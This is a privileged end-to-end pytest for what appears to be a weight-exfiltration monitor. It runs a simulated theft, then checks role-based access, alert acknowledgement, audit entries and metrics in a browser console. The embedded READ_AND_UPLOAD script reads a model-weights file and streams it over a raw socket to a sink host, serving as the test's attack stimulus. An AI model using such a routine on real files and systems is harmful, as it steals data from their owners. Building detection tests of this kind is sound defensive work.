"""The console in a real headless chromium, reviewing an alert raised by a real agent run in namespaces.

Namespace A is the GPU host (agent with --metrics-listen, weights, a cap);
B is the outside world (Mosquitto, ``weightwarden-collector run``, the upload
sink). ``serve`` runs on loopback over the same SQLite database; one browser
logs in as viewer, analyst and admin in turn. Screenshots are kept under the
test's tmp dir (printed).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import browser as chromium
from tests.helpers.broker import Broker
from tests.helpers.console import PASSWORDS, REPO, ConsoleServer, add_users, cli
from tests.helpers.netns import NetnsPair, wait_for

pytestmark = pytest.mark.privileged
SIZE = 32 * 2**20
READ_AND_UPLOAD = """
import socket, sys
data = open(sys.argv[1], 'rb').read()
s = socket.create_connection((sys.argv[2], 8080))
s.sendall(data)
s.close()
"""


def _alerts(db: str) -> list[dict[str, Any]]:
    import json

    out = cli("alerts", "list", "--json", "--db", db, check=False)
    return json.loads(out.stdout) if out.returncode == 0 and out.stdout.strip() else []


def test_console_roles_review_and_ack_a_real_alert(netns_pair: NetnsPair, tmp_path: Path) -> None:
    reason = chromium.missing()
    if reason:
        pytest.fail(reason)
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    pair = netns_pair
    models = tmp_path / "models"
    models.mkdir()
    weights = models / "model-00001-of-00001.safetensors"
    weights.write_bytes(os.urandom(SIZE))
    policy = tmp_path / "policy.yaml"
    policy.write_text(f"""apiVersion: weightwarden/v1
kind: EgressPolicy
metadata: {{name: console-e2e}}
spec:
  caps:
    - name: host-default
      rate: 4Gbit
      burst: 1MiB
  weights:
    paths: ["{models}/*.safetensors"]
""")
    shots = tmp_path / "screenshots"
    shots.mkdir()
    print(f"\nscreenshots: {shots}")
    broker = Broker(tmp_path / "broker", host=pair.addr_b, port=18851, netns=pair.b).start()
    db = f"sqlite:///{tmp_path}/collector.db"
    metrics_port = 19464
    server = None
    browser = None
    try:
        # The database first (as an operator would: `db upgrade`), then users, before `run` starts.
        cli("db", "upgrade", "--db", db)
        tokens = add_users(db)
        with (tmp_path / "collector.log").open("wb") as clog, (tmp_path / "agent.log").open("wb") as alog:
            pair.popen(pair.b, sys.executable, "-m", "weightwarden.collector", "run", "--broker", broker.url, "--db", db,
                       "--client-id", "console-e2e", cwd=str(REPO), stdout=subprocess.DEVNULL, stderr=clog)
            sink = pair.popen(pair.b, sys.executable, "-m", "tests.helpers.sink", pair.addr_b, "8080", "9000",
                              cwd=str(REPO), stdout=subprocess.PIPE)
            assert sink.stdout is not None and sink.stdout.readline().strip() == b"ready"
            pair.popen(pair.a, sys.executable, "-m", "weightwarden.agent", "run", "--policy", str(policy), "--state-dir",
                       str(tmp_path / "state"), "--host-id", "gpu-console", "--heartbeat-interval", "2",
                       "--metrics-listen", f"{pair.addr_a}:{metrics_port}",
                       "--sink", f"mqtt://{pair.addr_b}:{broker.port}", cwd=str(REPO),
                       stdout=subprocess.DEVNULL, stderr=alog)
        assert wait_for(lambda: "gpu-console" in cli("hosts", "--json", "--db", db, check=False).stdout, 30), \
            (tmp_path / "agent.log").read_text()[-2000:]
        server = ConsoleServer(db, tmp_path / "serve.log")
        thief = pair.popen(pair.a, sys.executable, "-c", READ_AND_UPLOAD, str(weights), pair.addr_b)
        assert thief.wait(timeout=60) == 0

        def found() -> dict[str, Any] | None:
            return next((a for a in _alerts(db) if (a["evidence"].get("process") or {}).get("pid") == thief.pid
                         and a["kind"] == "exfiltration"), None)

        assert wait_for(lambda: found() is not None, 15, 0.2), _alerts(db)
        alert = found()
        assert alert is not None
        base, aid = server.base, alert["id"]

        browser = chromium.Browser()
        d = browser.driver

        def wait_for_element(by: str, value: str) -> Any:
            # A click that submits a form returns before the next page is there: wait for it.
            return WebDriverWait(d, 15).until(ec.presence_of_element_located((by, value)))

        def shot(name: str) -> None:
            d.save_screenshot(str(shots / f"{name}.png"))

        def log_in(role: str) -> None:
            d.delete_all_cookies()
            d.get(base + "/")
            assert "/login" in d.current_url
            d.find_element(By.ID, "name").send_keys(role)
            d.find_element(By.ID, "password").send_keys(PASSWORDS[role])
            d.find_element(By.ID, "login").click()
            assert wait_for_element(By.ID, "whoami").text == role

        def fetch_status(path: str) -> int:
            """A state-changing request from the page itself, with the session's CSRF token."""
            return int(d.execute_async_script(
                "const done = arguments[arguments.length - 1];"
                "const csrf = document.querySelector('input[name=csrf]').value;"
                "fetch(arguments[0], {method: 'POST', headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf},"
                " body: JSON.stringify({comment: 'from script'})}).then(r => done(r.status));", path))

        # Viewer: sees the queue and the story; has no buttons; the API refuses its writes; no admin.
        log_in("viewer")
        links = d.find_elements(By.CSS_SELECTOR, f"a.alert-link[data-id='{aid}']")
        assert links, d.page_source[:2000]
        shot("1-viewer-queue")
        links[0].click()
        wait_for_element(By.ID, "who")
        page = d.find_element(By.TAG_NAME, "main").text
        assert str(weights) in page and pair.addr_b in page and "8080" in page
        who = d.find_element(By.ID, "who").text
        assert str(thief.pid) in who and "root" in who and "READ_AND_UPLOAD" not in who and "socket" in who
        assert d.find_element(By.ID, "projected").text
        assert d.find_elements(By.ID, "read-only") and not d.find_elements(By.ID, "ack")
        d.set_window_size(1400, 1900)
        shot("2-viewer-alert")
        d.set_window_size(1400, 1000)
        assert fetch_status(f"/api/v1/alerts/{aid}/ack") == 403
        d.get(base + "/admin")
        assert "may not do this" in d.find_element(By.ID, "error-message").text

        # Analyst: acknowledges with a comment; the audit trail names them; still no admin.
        log_in("analyst")
        d.get(f"{base}/alerts/{aid}")
        d.find_element(By.CSS_SELECTOR, "form[action$='/ack'] textarea").send_keys("upload to a lab box, checking")
        d.find_element(By.ID, "ack").click()
        wait_for_element(By.ID, "flash")
        assert d.find_element(By.ID, "alert-state").text == "acknowledged", d.find_element(By.TAG_NAME, "main").text
        audit = d.find_element(By.ID, "audit").text
        assert "analyst" in audit and "ack" in audit and "upload to a lab box, checking" in audit
        d.set_window_size(1400, 1900)
        shot("3-analyst-acked")
        d.set_window_size(1400, 1000)
        assert fetch_status("/api/v1/users") == 403  # adding users is for admins
        d.get(f"{base}/hosts/gpu-console")
        assert d.find_elements(By.CSS_SELECTOR, "#egress-chart svg polyline")
        assert "host-default" in d.find_element(By.ID, "egress-chart").text  # the cap is drawn
        assert "console-e2e" in d.find_element(By.ID, "policy").text
        shot("4-analyst-host")

        # Admin: the admin page lists the users.
        log_in("admin")
        d.get(base + "/admin")
        assert all(role in d.find_element(By.ID, "users").text for role in PASSWORDS)
        shot("5-admin")

        # What the browser did is in the API's audit trail too.
        import json

        req = urllib.request.Request(f"{base}/api/v1/alerts/{aid}", headers={"Authorization": f"Bearer {tokens['viewer']}"})
        with urllib.request.urlopen(req, timeout=10) as resp:
            doc = json.loads(resp.read())
        assert [(a["user"], a["action"], a["via"]) for a in doc["audit"]] == [("analyst", "ack", "console")]

        # Metrics: the collector's (ingest status written by `run`), and the agent's own, in its namespace.
        with urllib.request.urlopen(f"{base}/metrics", timeout=10) as resp:
            text = resp.read().decode()
        assert wait_for(lambda: 'collector="console-e2e"' in urllib.request.urlopen(f"{base}/metrics", timeout=10)
                        .read().decode(), 10), text
        assert 'weightwarden_host_last_seen_age_seconds{host="gpu-console"}' in text
        agent = pair.run(pair.a, "curl", "-s", f"http://{pair.addr_a}:{metrics_port}/metrics").stdout
        tx = [line for line in agent.splitlines()
              if line.startswith(f'weightwarden_agent_interface_transmit_bytes_total{{interface="{pair.veth_a}"}}')]
        assert tx and float(tx[0].split()[-1]) >= SIZE, agent[-1500:]
        assert "weightwarden_agent_resident_memory_bytes" in agent
    finally:
        if browser is not None:
            browser.close()
        if server is not None:
            server.stop()
        broker.stop()
    time.sleep(0)
